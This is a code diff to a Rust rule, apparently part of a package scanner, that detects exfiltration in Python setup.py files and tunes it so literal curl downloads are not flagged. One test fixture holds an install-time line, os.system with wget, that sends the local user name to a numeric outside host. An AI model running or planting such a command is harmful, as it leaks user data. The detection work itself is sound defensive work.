@@ -107,12 +107,16 @@ impl Rule for Exfiltration {
                             )
                     })
             };
+            // A `curl` command line written out in full carries nothing the code collected.
+            let computed =
+                |s: &Call| !vocab::runs_http_client(s) || vocab::first_str(s).is_some_and(|c| c.contains("{}"));
             let install_sink = sinks
                 .iter()
-                .find(|s| s.stage == Stage::Install && (linked(s) || credentials));
+                .find(|s| s.stage == Stage::Install && computed(s) && (linked(s) || credentials));
             // The working directory is read on import by every config loader.
             let import_sink = sinks.iter().find(|s| {
                 s.stage == Stage::Import
+                    && computed(s)
                     && identity
                         .iter()
                         .any(|(n, scope)| (*scope == s.scope || *scope == 0) && *n != "os.getcwd")
@@ -332,6 +336,9 @@ mod tests {
             "import os, getpass\nos.system('wget -q http://192.0.2.7/?u=' + getpass.getuser())\n",
         );
         assert_eq!(f.iter().map(|f| f.severity).max(), Some(Severity::Critical), "{f:?}");
+        // No error: a literal download next to a walk of the environment.
+        let src = "import os, subprocess\ndef build():\n    env = {k: v for k, v in os.environ.items() if k != 'X'}\n    subprocess.check_call(['curl', '-L', '-o', 'lib.tgz', 'https://example.org/lib.tgz'], env=env)\nbuild()\n";
+        assert!(setup_py(&Exfiltration, src).is_empty());
         // No error: a build fetching the toolchain for this platform with curl, the
         // environment passed along to the process.
         let src = "import os, subprocess\ndef fetch():\n    arch = os.uname().machine\n    subprocess.check_call(['curl', '-fsSLo', 'tc.tgz', f'https://example.org/tc-{arch}.tgz'], env=dict(os.environ))\nfetch()\n";
